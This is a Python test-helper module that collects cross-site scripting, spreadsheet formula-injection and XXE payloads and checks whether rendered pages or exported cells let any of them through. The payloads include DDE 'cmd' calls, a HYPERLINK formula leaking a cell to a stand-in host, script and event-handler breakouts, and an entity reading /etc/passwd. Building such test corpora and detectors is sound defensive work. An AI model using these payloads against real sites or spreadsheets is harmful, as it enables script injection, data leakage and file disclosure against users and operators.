"""Words that would run in a browser or a spreadsheet if anybody let them, and how to see that nobody did."""

from collections.abc import Iterator
from html.parser import HTMLParser
from urllib.parse import urlsplit

#: What a spreadsheet would take for a formula or a command.
FORMULAS = (
    '=HYPERLINK("http://hidden.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    '"=1+1',
    ";=1+1",
)
#: Ways out of every context there is: text, attributes with either quote or none, scripts, comments, styles,
#: templates, addresses, and characters that browsers once read in their own way.
SCRIPTS = (
    "<script>window.flag=1</script>",
    "<img src=x onerror=window.flag=1>",
    "<svg/onload=window.flag=1>",
    "\"'><xssq onmouseover=window.flag=1 autofocus tabindex=1 onfocus=window.flag=1>",
    '" autofocus onfocus=window.flag=1 xssq="',
    "' autofocus onfocus=window.flag=1 xssq='",
    "</textarea></title></style></script><xssq><script>window.flag=1</script>",
    "--><xssq><script>window.flag=1</script><!--",
    "]]><xssq xmlns='http://www.w3.org/1999/xhtml'><script>window.flag=1</script>",
    "javascript:window.flag=1//",
    "data:text/html,<script>window.flag=1</script>",
    "<iframe srcdoc='<script>parent.flag=1</script>'></iframe>",
    "<base href=//hidden.example/><form action=//hidden.example><button>",
    "<meta http-equiv=refresh content='0;url=//hidden.example/'>",
    "<style>@import '//hidden.example/';</style><link rel=stylesheet href=//hidden.example/>",
    "&lt;script&gt;window.flag=1&lt;/script&gt;&#60;xssq&#62;",
    "{{7*7}}{% load static %}${7*7}<%=7*7%>",
    "\u2028\u2029<xssq>\ufeff＜script＞window.flag=1＜/script＞",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><xssq>&e;",
)
#: What may stand in a short field.
SHORT = "\"'><xssq onload=flag><script>window.flag=1</script>"


def short(label: str) -> str:
    return f"{label}{SHORT}"


def whole(label: str) -> str:
    """The corpus as one text, in which a label says which field it went into."""
    return "\n".join([f"{label} lamp", *SCRIPTS, *FORMULAS])


_NEVER = {"xssq", "iframe", "object", "embed", "base", "style", "applet", "frame"}
_ADDRESSES = {"href", "src", "action", "formaction", "srcset", "poster", "xlink:href"}


class Injected(HTMLParser):
    """Whatever stands in a page that no template of ours writes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        odd = [f"{tag} {name}={value}" for name, value in given.items() if _is_odd(name, value)]
        # Facts for a script of ours are no script themselves.
        ours = given.get("src", "").startswith("/static/") or given.get("type") == "application/json"
        if tag in _NEVER or (tag == "script" and not ours):
            odd.append(tag)
        if tag == "meta" and "http-equiv" in given:
            odd.append(f"meta {given}")
        self.found += odd


def _is_odd(name: str, value: str) -> bool:
    if name.startswith("on") or name in {"style", "xssq", "srcdoc"}:
        return True
    address = urlsplit(value.strip()) if name in _ADDRESSES else urlsplit("")
    return address.scheme not in {"", "http"} or address.hostname not in {None, "testserver", "localhost"}


def injected(page: str) -> list[str]:
    parser = Injected()
    parser.feed(page)
    parser.close()
    return parser.found


def cells_that_run(rows: list[list[str]]) -> Iterator[str]:
    """Cells that a spreadsheet would run."""
    return (cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r")))
